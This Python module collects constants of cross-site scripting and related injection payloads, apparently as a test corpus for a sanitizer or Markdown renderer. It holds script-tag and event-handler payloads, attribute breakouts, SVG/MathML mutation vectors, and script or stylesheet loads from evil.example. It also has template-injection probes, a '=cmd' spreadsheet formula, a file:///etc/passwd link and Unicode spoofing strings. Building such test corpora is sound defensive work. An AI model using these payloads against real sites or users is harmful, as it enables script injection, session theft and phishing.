# ruff: noqa: RUF001 - letters that look like others are what some of these are about
"""Texts that would run in a reader's browser, were they ever taken for more than text; by what they would need for it."""

from typing import Final

ALERT: Final = "alert(1)"
_TAGS: Final = (
    "img",
    "svg",
    "video",
    "audio",
    "body",
    "input",
    "details",
    "marquee",
    "iframe",
    "object",
    "select",
    "math",
)
_EVENTS: Final = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationend",
    "onbeforetoggle",
    "onpointerenter",
    "onscrollend",
)
_SPELLINGS: Final = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", " javascript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "\u0001javascript:alert(1)".replace("\u0001", "&#1;"),
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://evil.example/x", "filesystem:https://evil.example/x", "file:///etc/passwd",
    "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:javascript:alert(1)", "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)", "jar:javascript:alert(1)!/", "ｊavascript:alert(1)", "java\u00adscript:alert(1)", "javascript://%0aalert(1)",
)  # fmt: skip

SCRIPTS: Final = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script/x>", "<script type=module>import('//evil.example/x.js')</script>", "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>alert`1`</script>", "<script defer src=data:,alert(1)></script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>", "<title><script>alert(1)</script></title>",
    "<textarea></textarea><script>alert(1)</script>", "<script>self['al'+'ert'](1)</script>", "＜script＞alert(1)＜/script＞",
    "\u2028<script>alert(1)</script>".replace("\u2028", ""), "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)  # fmt: skip
HANDLERS: Final = (
    *(f"<{tag} src=x onerror=alert(1) onload=alert(1)>" for tag in _TAGS),
    *(f'<p tabindex=0 autofocus {event}="alert(1)">x</p>' for event in _EVENTS),
    "<img src=x onerror\x20=\x20alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<img src=x:x onerror=\"alert(1)\"//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg/onload=alert(1)//", "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", "<a href=# onclick=alert(1)>x</a>", "<audio src onloadstart=alert(1)>",
    "<xss id=x tabindex=1 onactivate=alert(1)></xss>", "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>",
)  # fmt: skip
ATTRIBUTES: Final = (
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '" autofocus onfocus="alert(1)',
    '"><svg onload=alert(1)>', "` onclick=alert(1) x=`", '" style="background:url(//evil.example/x)', "' style='x:expression(alert(1))",
    '" href="javascript:alert(1)', '"/><base href=//evil.example/>', '" id="main" name="body', '" srcdoc="<script>alert(1)</script>',
    '" http-equiv="refresh" content="0;url=//evil.example', '"><meta http-equiv=refresh content="0;url=//evil.example">',
    '"><link rel=stylesheet href=//evil.example/x.css>', '"><form action=//evil.example><button>x</button></form>',
    '" accesskey="x" onclick="alert(1)', "\"><iframe srcdoc='<script>alert(1)</script>'></iframe>", "x\"y'z<w>&v`u=",
)  # fmt: skip
VECTORS: Final = (
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg id=x onload=alert(1)>#x></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><title><img src=x onerror=alert(1)></title>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>", "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=alert(1) src>",
)  # fmt: skip
MARKDOWN: Final = (
    *(f"[click]({spelling})" for spelling in _SPELLINGS),
    *(f"[click](<{spelling}>)" for spelling in _SPELLINGS[:6]),
    *(f"![image]({spelling})" for spelling in _SPELLINGS[:8]),
    *(f"<{spelling}>" for spelling in _SPELLINGS[:4]),
    '[x](https://ok.example "onload=alert(1)\\" onclick=\\"alert(1)")', "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
    "[x][r]\n\n[r]: javascript:alert(1) \"t\"", "[x][s]\n\n[s]: <data:text/html,<script>alert(1)</script>>", "[javascript:alert(1)]",
    "```\" onmouseover=\"alert(1)\n<script>alert(1)</script>\n```", "~~~<img src=x onerror=alert(1)>\nx\n~~~", "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>", "> <img src=x onerror=alert(1)>", "| <script>alert(1)</script> |\n|:-\" onclick=\"alert(1)-:|\n| <img src=x onerror=alert(1)> |",
    "1. <svg onload=alert(1)>", "- [x] <img src=x onerror=alert(1)>", "![](https://tracker.example/pixel.png)", "![x](//tracker.example/p.png)",
    "[![x](https://tracker.example/p.png)](javascript:alert(1))", "<https://ok.example/\"onmouseover=alert(1)>", "https://ok.example/\"onmouseover=alert(1)",
    "https://ok.example/<script>alert(1)</script>", "mailto:x@example.com?subject=<script>alert(1)</script>", "<mailto:\"onclick=alert(1)\"@x.example>",
    "[a](../../../../../etc/passwd)", "[a](tasks/../../../x.yaml)", "[@evil](org/evil.yaml#\"><script>alert(1)</script>)",
    "<!-- --><script>alert(1)</script><!-- -->", "<!--><img src=x onerror=alert(1)>-->", "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY e \"<script>alert(1)</script>\">]>&e;",
    "\\<script>alert(1)\\</script>", "&NewLine;&lt;script&gt;alert(1)", "*<b onclick=alert(1)>x</b>*", "~~<img src=x onerror=alert(1)>~~",
)  # fmt: skip
TEMPLATES: Final = (
    "{{ 7 * 7 }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% raw %}", "{% include '/etc/passwd' %}", "{# x #}", "${alert(1)}", "#{7*7}",
    "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "[[${7*7}]]", "%s%n%x", "{0.__class__}", "\\{\\{ 7 \\}\\}",
)  # fmt: skip
STYLES: Final = (
    "<style>@import url(//evil.example/x.css);</style>", "<p style=\"background:url(//evil.example/x)\">x</p>", "<link rel=stylesheet href=//evil.example/x.css>",
    "</style><script>alert(1)</script>", "\"; } body { background: url(//evil.example/x); } a { content: \"", "'); @import '//evil.example/x.css'; ('",
    "\\22 ; } * { display: none }", "<div style=position:fixed;inset:0>x</div>", "/* */ } html { display: none } /*", "<link rel=prefetch href=//evil.example/x>",
)  # fmt: skip
JSON_AND_SHEETS: Final = (
    "</script><img src=x onerror=alert(1)>", "\";alert(1);//", "\\\";alert(1);//", "'-alert(1)-'", "]]>", "*/alert(1)/*", "--></script>", "\\u2028alert(1)",
    "__proto__", "constructor", "toString", "=cmd|' /C calc'!A0", "\"}],\"x\":[{\"", "`${alert(1)}`",
)  # fmt: skip
UNICODE: Final = (
    "\u202eevil.txt.exe", "\u2066isolated\u2069 \u202dover", "zero\u200bwidth\u2060word", "\ufeffbyte order", "\U000e0041\U000e0042tags", "a" + "\u0301" * 60,
    "раураl.example", "ＣＩ-0001", "👩\u200d💻 stays", "می\u200cخواهم", "\u1160\u3164blank", "W" * 280, "مرحبا <script>alert(1)</script>",
)  # fmt: skip

CLASSES: Final = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "attributes": ATTRIBUTES,
    "vectors": VECTORS,
    "markdown": MARKDOWN,
    "templates": TEMPLATES,
    "styles": STYLES,
    "json and sheets": JSON_AND_SHEETS,
    "unicode": UNICODE,
}
ALL: Final = tuple(payload for payloads in CLASSES.values() for payload in payloads)
